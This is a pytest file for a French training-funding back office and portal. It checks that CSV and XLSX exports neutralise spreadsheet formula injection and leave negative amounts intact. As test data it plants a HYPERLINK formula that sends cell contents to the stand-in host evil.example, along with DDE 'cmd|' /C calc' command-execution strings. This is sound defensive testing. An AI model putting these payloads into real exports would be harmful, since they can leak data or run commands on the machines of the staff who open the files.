"""Back-office exports neutralise spreadsheet formulas typed by CFAs (CSV/formula injection): a cell such as
`=HYPERLINK(...)` must open in Excel as text for the OPCO's staff, never run; amounts stay numbers-as-typed."""
import io

from openpyxl import load_workbook

import models
from tests.portal.world import two_cfas

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")'


def test_admin_csv_and_xlsx_exports_neutralise_formulas_typed_by_a_cfa(app, factory, make_client):
    sud, nord, employer, staff = two_cfas(app, factory)
    sud.document.original_name = FORMULA
    sud.document.save()
    models.Notification.update(message="@SUM(1+1)*cmd|' /C calc'!A0").where(
        models.Notification.id == sud.notification.id).execute()
    admin = make_client(staff.email)
    csv_text = admin.get("/admin/document/export/csv/").get_data(as_text=True)
    assert "=HYPERLINK" in csv_text and ";=HYPERLINK" not in csv_text and '\n"=HYPERLINK' not in csv_text
    assert "'=HYPERLINK" in csv_text
    notifications = admin.get("/admin/notification/export/csv/").get_data(as_text=True)
    assert "'@SUM(1+1)" in notifications
    workbook = load_workbook(io.BytesIO(admin.get("/admin/document/export/xlsx/").data))
    cells = [c.value for row in workbook.active.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))], cells
    assert any(c == "'" + FORMULA for c in cells)


def test_negative_amounts_are_not_mangled(app, factory, make_client):
    from views.admin.base import _export_text

    assert _export_text("-50,00 €") == "-50,00 €"
    assert _export_text("-1 234,56") == "-1 234,56"
    assert _export_text("+33 1 23 45 67 89") == "+33 1 23 45 67 89"
    assert _export_text("-cmd") == "'-cmd"


def test_portal_invoice_and_payment_exports_neutralise_formulas_too():
    """The portal's lists go through the same streamed writers as the back office."""
    from infrastructure.exports import spreadsheet_safe

    assert spreadsheet_safe('=HYPERLINK("http://x")') == "'=HYPERLINK(\"http://x\")"
    assert spreadsheet_safe("@SUM(A1)") == "'@SUM(A1)"
    assert spreadsheet_safe("-1 234,50 €") == "-1 234,50 €"
    assert spreadsheet_safe(spreadsheet_safe("=1+1")) == "'=1+1"
    assert spreadsheet_safe(12) == 12


def test_a_cfa_reference_starting_like_a_formula_is_text_in_the_portal_invoice_export(make_client, factory, db):
    import csv
    import io

    import models

    org = factory.organisation()
    user = factory.cfa_user(organisation=org)
    dossier = factory.dossier(organisation=org, state="engage", deca_number="=cmd|' /C calc'!A0")
    models.Invoice.create(organisation=org, dossier=dossier, number=1, state="en_traitement",
                          receipt_number="=HYPERLINK(1)")
    client = make_client(user.email)
    body = client.get("/portail/factures/export.csv").get_data().decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body), delimiter=";") for cell in row]
    assert "'=HYPERLINK(1)" in cells and "=HYPERLINK(1)" not in cells
    body = client.get("/portail/dossiers/export.csv").get_data().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body, newline=""), delimiter=";"))
    assert rows[1][1] == "'=cmd|' /C calc'!A0"
